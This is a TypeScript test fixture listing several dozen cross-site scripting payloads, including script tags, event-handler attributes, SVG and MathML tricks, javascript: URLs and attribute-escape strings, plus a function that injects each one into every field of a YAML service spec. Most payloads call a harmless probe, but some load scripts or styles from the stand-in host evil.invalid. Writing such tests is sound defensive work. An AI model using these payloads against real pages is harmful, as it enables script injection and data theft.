// Texts that run as script wherever a page forgets to treat what it was given as text. Each calls `probe`, which the
// page under test defines; whatever reaches it has got through.

const CALL = "probe()";

/** Elements that run something as soon as they are parsed. */
const ELEMENTS = [
  `<script>${CALL}</script>`,
  `<script type=module>${CALL}</script>`,
  `<script src="data:text/javascript,${CALL}"></script>`,
  `<script src=https://evil.invalid/x.js></script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<img src=x onerror=${CALL}>`,
  `<img src=x onerror='${CALL}'//`,
  `<IMG SRC=x OnErRoR=${CALL}>`,
  `<img/src=x/onerror=${CALL}>`,
  `<img src="https://evil.invalid/pixel.gif">`,
  `<image href=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg/onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href="data:text/javascript,${CALL}"/></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set onbegin=${CALL} attributeName=x>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${CALL}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><body onload=${CALL}></body></foreignObject></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${CALL}</script>"></iframe></foreignObject></svg>`,
  `<svg><style>@import "https://evil.invalid/x.css";</style></svg>`,
  `<svg><image href="https://evil.invalid/x.png"/></svg>`,
  `<math><mtext><style><img src=x onerror=${CALL}></style></mtext></math>`,
  `<math href="javascript:${CALL}">x</math>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe src=https://evil.invalid/></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<object data="data:text/html,<script>parent.${CALL}</script>"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<body onload=${CALL}>`,
  `<body onpageshow=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}></select>`,
  `<textarea autofocus onfocus=${CALL}></textarea>`,
  `<details open ontoggle=${CALL}>`,
  `<video src=x onerror=${CALL}></video>`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}></audio>`,
  `<marquee onstart=${CALL}>x</marquee>`,
  `<div style="animation:x" onanimationstart=${CALL}>`,
  `<div style="background:url(https://evil.invalid/x)">`,
  `<style>@import url(https://evil.invalid/x.css);</style>`,
  `<link rel=stylesheet href=https://evil.invalid/x.css>`,
  `<link rel=prefetch href=https://evil.invalid/x>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<base href=https://evil.invalid/>`,
  `<form action="javascript:${CALL}"><button autofocus>x</button></form>`,
  `<button popovertarget=x onbeforetoggle=${CALL}>x</button><div popover id=x>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<template><script>${CALL}</script></template><img src=x onerror=${CALL}>`,
];

/** Ways out of an attribute, a comment, a code block, a label or a text format, into an element. */
const ESCAPES = [
  `"><img src=x onerror=${CALL}>`,
  `'><img src=x onerror=${CALL}>`,
  `" onmouseover=${CALL} autofocus onfocus=${CALL} x="`,
  `' onfocus='${CALL}' tabindex='1`,
  `--><img src=x onerror=${CALL}><!--`,
  `]]><img src=x onerror=${CALL}>`,
  `</text><script>${CALL}</script><text>`,
  `</title><img src=x onerror=${CALL}>`,
  `</style><img src=x onerror=${CALL}>`,
  `</textarea><img src=x onerror=${CALL}>`,
  `</svg><img src=x onerror=${CALL}>`,
  `\u0060</code><img src=x onerror=${CALL}>\u0060`,
  `javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `[x](javascript:${CALL})`,
  `![x](https://evil.invalid/x.png)`,
  `&lt;img src=x onerror=${CALL}&gt;`,
  `&#60;img src=x onerror=${CALL}&#62;`,
  `\\u003cimg src=x onerror=${CALL}\\u003e`,
  `\${${CALL}}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `<\u0000img src=x onerror=${CALL}>`,
  `x"];click x call ${CALL}`,
  `click a href "javascript:${CALL}"`,
  `%%{init: {"securityLevel": "loose"}}%%<img src=x onerror=${CALL}>`,
];

export const PAYLOADS: readonly string[] = [...ELEMENTS, ...ESCAPES];

/**
 * A spec with the payload in every kind of string that the language takes: names, summaries, paths, types, keys.
 * `mark` is a harmless service by which one sees that this very spec has been drawn.
 */
export function poisoned(payload: string, mark: string): string {
  const p = JSON.stringify(payload);
  const inPath = JSON.stringify(`GET /v1/${payload}`);
  return `name: ${p}
summary: ${p}
owner: ${p}
requirements:
  functional: [${p}]
  compliance: [${p}]
constraints: [${p}]
integration_points:
  - ${p}
  - { name: ${mark}-partner, kind: ${p}, protocol: ${p}, auth: ${p} }
contexts:
  - { name: ${p}, team: ${p}, relations: [{ to: ${p}, as: ${p} }] }
services:
  - name: ${mark}
    summary: ${p}
    stack: [${p}]
    owns: [${p}]
    calls: [${p}, { to: ${mark}-partner, protocol: ${p}, timeout: ${p}, fallback: ${p} }]
    publishes: [${p}]
    api: [${inPath}]
  - name: ${p}
    team: ${p}
    context: ${p}
    x-note: ${p}
    calls: [${mark}]
  - ${JSON.stringify(`${mark} ${payload}`)}
api:
  - { method: ${p}, path: ${p}, service: ${p}, summary: ${p}, auth: ${p}, request: ${p}, public_reason: ${p} }
schemas:
  ${p}: { ${p}: ${p} }
channels:
  - { name: ${p}, broker: ${p}, key: ${p} }
events:
  - { name: ${p}, channel: ${p}, producer: ${p}, payload: ${p} }
flows:
  - { name: ${p}, trigger: ${p}, actor: ${p}, steps: [${JSON.stringify(`${mark} -> ${payload}: ${payload}`)}, { from: ${mark}, to: ${p}, does: ${p} }] }
stores:
  - { name: ${p}, engine: ${p}, kind: ${p} }
data_model:
  - { name: ${p}, store: ${p}, fields: { ${p}: ${p}, id: uuid pk, ref: ${JSON.stringify(`uuid -> ${payload}.id`)} } }
decisions:
  - { id: ${p}, title: ${p}, context: ${p}, decision: ${p} }
roadmap:
  - { phase: ${p}, delivers: [${p}], milestones: [${p}] }
risks:
  - { risk: ${p}, mitigation: ${p}, owner: ${p} }
rules: { ${p}: ${p} }
${p}: ${p}
ignore: { ${p}: ${p} }
`;
}
